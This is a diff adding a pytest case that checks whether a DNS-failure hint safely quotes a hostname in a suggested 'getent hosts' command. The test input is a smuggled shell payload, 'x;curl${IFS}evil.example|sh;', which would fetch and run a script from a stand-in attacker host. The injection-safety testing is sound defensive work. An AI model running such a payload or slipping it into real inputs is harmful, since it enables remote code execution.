@@ -66,6 +66,14 @@ def test_a_name_that_does_not_resolve() -> None:
         assert error.sentence == "db.example cannot be resolved: Name or service not known"
 
 
+@pytest.mark.parametrize("number", [socket.EAI_NONAME, socket.EAI_AGAIN, socket.EAI_NODATA])
+def test_a_name_is_quoted_in_a_command(number: int) -> None:
+    """A cluster of Kafka's may have chosen it."""
+    hint = dns_fault("x;curl${IFS}evil.example|sh;", socket.gaierror(number, "no")).hint
+    assert hint.endswith("`getent hosts 'x;curl${IFS}evil.example|sh;'`")
+    assert dns_fault("db.example", socket.gaierror(number, "no")).hint.endswith("`getent hosts db.example`")
+
+
 @pytest.mark.parametrize(
     ("reason", "kind", "code"),
     [
